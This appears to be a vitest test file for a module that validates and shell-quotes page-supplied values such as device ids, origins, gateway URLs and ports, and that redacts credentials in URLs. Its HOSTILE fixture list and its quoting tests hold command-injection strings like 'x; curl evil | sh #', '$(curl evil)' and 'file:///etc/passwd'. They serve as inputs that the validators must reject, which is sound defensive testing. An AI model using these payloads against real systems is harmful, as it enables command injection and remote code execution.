import { execFileSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import {
  allowedOriginsArg,
  code,
  deviceIdArg,
  displayText,
  isComposeServiceName,
  isDeviceId,
  isGatewayUrl,
  isOrigin,
  isPort,
  isRequestId,
  joinRich,
  originOf,
  plainText,
  redactUrl,
  requestIdArg,
  rich,
  shellQuote,
} from './command-values';

const HEX64 = 'a3f1'.repeat(16);
const UUID = '3f2b8c1e-9d4a-4e6b-8f7c-2a1b0c9d8e7f';
const MEGABYTE = 'a'.repeat(1024 * 1024);

/** What every validator must refuse: shell syntax, markup, look-alikes, huge and non-string values. */
const HOSTILE: unknown[] = [
  'x; curl evil | sh #',
  '$(curl evil)',
  '`curl evil`',
  'abc\ncurl evil',
  "abc' ; curl evil; '",
  'abc"def',
  'abc def',
  '<b>bold</b>',
  '\u0430bcd', // Cyrillic а
  'ab\u202ecd',
  MEGABYTE,
  '__proto__x; rm',
  '',
  null,
  undefined,
  42,
  {},
  [],
  Object.create(null),
  { toString: () => HEX64 },
  [HEX64],
];

describe('validators refuse hostile page values', () => {
  it.each(HOSTILE.map((value) => [value]))('%j', (value) => {
    expect(isDeviceId(value)).toBe(false);
    expect(isRequestId(value)).toBe(false);
    expect(isOrigin(value)).toBe(false);
    expect(isGatewayUrl(value)).toBe(false);
    expect(isComposeServiceName(value)).toBe(false);
    // 42 is hostile text but a real port number.
    if (typeof value !== 'number') expect(isPort(value)).toBe(false);
  });
});

describe('device id: 64 lowercase hex (sha256 of the public key)', () => {
  it.each([[HEX64, true], ['0'.repeat(64), true], [HEX64.toUpperCase(), false], [HEX64.slice(1), false], [`${HEX64}0`, false], ['g'.repeat(64), false], ['d3m0d3v1c3' + '0'.repeat(54), false], [`${HEX64.slice(0, 63)}\n`, false]])(
    '%j → %s',
    (value, ok) => expect(isDeviceId(value)).toBe(ok),
  );
});

describe('request id: [A-Za-z0-9_-]{4,128}, never option-like', () => {
  it.each([
    [UUID, true],
    ['r-42', true],
    ['req_1', true],
    ['AbC9', true],
    ['x'.repeat(128), true],
    ['x'.repeat(129), false],
    ['abc', false],
    ['--latest', false],
    ['-abc', false],
    ['__proto__', true], // harmless letters and underscores: the check is the shape, not the name
    ['abc.def', false],
    ['abc/def', false],
    ['abc def', false],
  ])('%j → %s', (value, ok) => expect(isRequestId(value)).toBe(ok));
});

describe('origin: exactly new URL(x).origin, valid host, no credentials or path', () => {
  it.each([
    ['http://127.0.0.1:18789', true],
    ['http://localhost:18789', true],
    ['https://host.tail1234.ts.net', true],
    ['https://gw.example:8443', true],
    ['http://[::1]:18789', true],
    ['http://my_service:18789', true],
    ['https://xn--ggle-55da.com', true],
    ['http://127.0.0.1:18789/', false],
    ['http://127.0.0.1:18789/openclaw', false],
    ['http://user:pass@127.0.0.1:18789', false],
    ['HTTP://LOCALHOST', false],
    ['http://localhost:80', false],
    ['ws://127.0.0.1:18789', false],
    ['file:///etc/passwd', false],
    ['null', false],
    ['javascript:alert(1)', false],
    // URL keeps these in host names, so the host check has to refuse them.
    ['http://a;b$c', false],
    ["http://a'b", false],
    ['http://a"b', false],
    ['http://a`b', false],
    ['http://a(b)c', false],
    ['http://a&b', false],
    ['http://g\u043e\u043egle.com', false], // Cyrillic о: URL would turn it into punycode
    ['http://0x7f.1', false],
  ])('%j → %s', (value, ok) => expect(isOrigin(value)).toBe(ok));

  it('takes the origin of a page address, or null', () => {
    expect(originOf('http://127.0.0.1:18789/openclaw/chat?x=1#token=abc')).toBe('http://127.0.0.1:18789');
    expect(originOf('not a url')).toBeNull();
    expect(originOf('file:///home/me/index.html')).toBeNull();
    expect(originOf('http://a;b$c/')).toBeNull();
    expect(originOf(42)).toBeNull();
  });
});

describe('gateway URL: ws(s), parses, no credentials or shell characters', () => {
  it.each([
    ['ws://127.0.0.1:18789', true],
    ['wss://host.tail1234.ts.net/openclaw', true],
    ['ws://127.0.0.1:18789/?profile=a', true],
    ['ws://[::1]:18789', true],
    ['http://127.0.0.1:18789', false],
    ['ws://user:pass@127.0.0.1:18789', false],
    ['ws://127.0.0.1:18789/$(id)', false],
    ['ws://127.0.0.1:18789/;id', false],
    ["ws://127.0.0.1:18789/'", false],
    ['ws://127.0.0.1:18789/a b', false],
    ['ws://127.0.0.1:18789/?a=1&b=2', false],
    [`ws://127.0.0.1/${MEGABYTE}`, false],
  ])('%j → %s', (value, ok) => expect(isGatewayUrl(value)).toBe(ok));
});

describe('compose service name', () => {
  it.each([
    ['openclaw-gateway', true],
    ['gw_1.prod', true],
    ['a'.repeat(64), true],
    ['a'.repeat(65), false],
    ['-gw', false],
    ['.gw', false],
    ['gw;id', false],
  ])('%j → %s', (value, ok) => expect(isComposeServiceName(value)).toBe(ok));
});

describe('port: an integer 1–65535', () => {
  it.each([
    [18789, true],
    [1, true],
    [65535, true],
    [0, false],
    [65536, false],
    [-1, false],
    [18789.5, false],
    [Number.NaN, false],
    [Number.POSITIVE_INFINITY, false],
    ['18789', false],
    [null, false],
  ])('%j → %s', (value, ok) => expect(isPort(value)).toBe(ok));
});

describe('shell quoting', () => {
  it.each([
    ['abc', 'abc'],
    [HEX64, HEX64],
    ['http://127.0.0.1:18789', 'http://127.0.0.1:18789'],
    ['', "''"],
    ['a b', "'a b'"],
    ['$(id)', "'$(id)'"],
    ['`id`', "'`id`'"],
    ["it's", "'it'\\''s'"],
    ['a\nb', "'a\nb'"],
    ['["https://gw.example"]', `'["https://gw.example"]'`],
  ])('%j → %s', (value, quoted) => expect(shellQuote(value)).toBe(quoted));

  it.skipIf(process.platform === 'win32')('reads back as the same single word in a real POSIX shell', () => {
    for (const value of ["x; curl evil | sh #", "$(id)", "`id`", "a'b'c", "'", 'a\nb', '\\', '*', '~', '!', 'a"b']) {
      const out = execFileSync('sh', ['-c', `printf '%s' ${shellQuote(value)}`], { encoding: 'utf8' });
      expect(out).toBe(value);
    }
  });
});

describe('command arguments: the value when it fits its shape, else the placeholder', () => {
  it.each(HOSTILE.map((value) => [value]))('%j', (value) => {
    expect(deviceIdArg(value)).toBe('<deviceId>');
    expect(requestIdArg(value)).toBe('<requestId>');
    expect(allowedOriginsArg(value)).toBe(`'["<origin>"]'`);
  });

  it('keeps real values', () => {
    expect(deviceIdArg(HEX64)).toBe(HEX64);
    expect(requestIdArg(UUID)).toBe(UUID);
    expect(allowedOriginsArg('https://gw.example')).toBe(`'["https://gw.example"]'`);
    expect(allowedOriginsArg('http://[::1]:18789')).toBe(`'["http://[::1]:18789"]'`);
    // The argument is JSON the config parser can read.
    expect(JSON.parse(allowedOriginsArg('https://gw.example').slice(1, -1))).toEqual(['https://gw.example']);
  });
});

describe('URLs with credentials are shown redacted', () => {
  it.each([
    ['ws://user:pass@host/', 'ws://***@host/'],
    ['wss://user@host.example:443/openclaw', 'wss://***@host.example:443/openclaw'],
    ['ws://a@b:secret@host/', 'ws://***@host/'],
    ['ws:user:pass@host', 'ws:***@host'],
    ['ws://u:p@[::1', 'ws://***@[::1'],
    ['ws://127.0.0.1:18789/?token=abc123', 'ws://127.0.0.1:18789/?token=***'],
    ['ws://127.0.0.1:18789/?x=1&bootstrapToken=abc#password=pw', 'ws://127.0.0.1:18789/?x=1&bootstrapToken=***#password=***'],
    ['ws://127.0.0.1:18789', 'ws://127.0.0.1:18789'],
    ['ws://127.0.0.1:18789/a@b', 'ws://127.0.0.1:18789/a@b'],
  ])('%j → %j', (value, shown) => expect(redactUrl(value)).toBe(shown));

  it('stays fast on huge hostile input (no catastrophic backtracking)', () => {
    for (const value of [' '.repeat(1024 * 1024), `?${'token'.repeat(200_000)}`, '?'.repeat(1024 * 1024), `ws://${'a:'.repeat(500_000)}`, `ws://u:p@h/?${'&a'.repeat(500_000)}`]) {
      const started = performance.now();
      const shown = redactUrl(value);
      expect(performance.now() - started).toBeLessThan(500);
      expect(shown.length).toBeLessThanOrEqual(4097);
    }
  });

  it('leaves no credential URL could read', () => {
    for (const value of ['ws://user:pass@host/', 'ws:\\\\user:pass@host/', ' ws://user:pass@host', 'WS://user:pass@host', 'ws://user:pa\tss@host']) {
      const shown = redactUrl(value);
      expect(shown).not.toContain('pass');
      expect(shown).not.toContain('pa\tss');
    }
  });
});

describe('page strings to show', () => {
  it('cuts long strings with an ellipsis', () => {
    const shown = displayText(MEGABYTE);
    expect(shown).toHaveLength(200);
    expect(shown.endsWith('…')).toBe(true);
    expect(displayText('short')).toBe('short');
  });
  it('never cuts inside a surrogate pair', () => {
    const shown = displayText(`${'a'.repeat(198)}😀😀`);
    expect(shown).toBe(`${'a'.repeat(198)}…`);
  });
  it('replaces controls and bidi overrides', () => {
    expect(displayText('ab\u202ecd\nef\u0000')).toBe('ab\ufffdcd\ufffdef\ufffd');
  });
  it('shows non-strings as text without throwing', () => {
    expect(displayText(42)).toBe('42');
    expect(displayText(Object.create(null))).toBe('');
  });
});

describe('rich text: only the template marks code', () => {
  it('turns the template’s backticks into code segments', () => {
    expect(rich`run \`openclaw gateway status\` now`).toEqual(['run ', { code: 'openclaw gateway status' }, ' now']);
  });
  it('keeps an interpolated string as text, backticks and markup included', () => {
    const key = 'openclaw.device.auth.v1:ws://x`<b>`y`';
    expect(rich`cleared ${key}.`).toEqual([`cleared ${key}.`]);
    expect(rich`run \`approve ${key}\`.`).toEqual(['run ', { code: `approve ${key}` }, '.']);
  });
  it('keeps code() one segment whatever it holds', () => {
    const list = joinRich([code('a`b`c'), code('d')], ', ');
    expect(list).toEqual([{ code: 'a`b`c' }, ', ', { code: 'd' }]);
    expect(rich`(${list})`).toEqual(['(', { code: 'a`b`c' }, ', ', { code: 'd' }, ')']);
    expect(plainText(rich`(${list})`)).toBe('(a`b`c, d)');
  });
  it('never merges two code spans', () => {
    expect(rich`\`a\`${code('b')}`).toEqual([{ code: 'a' }, { code: 'b' }]);
  });
});
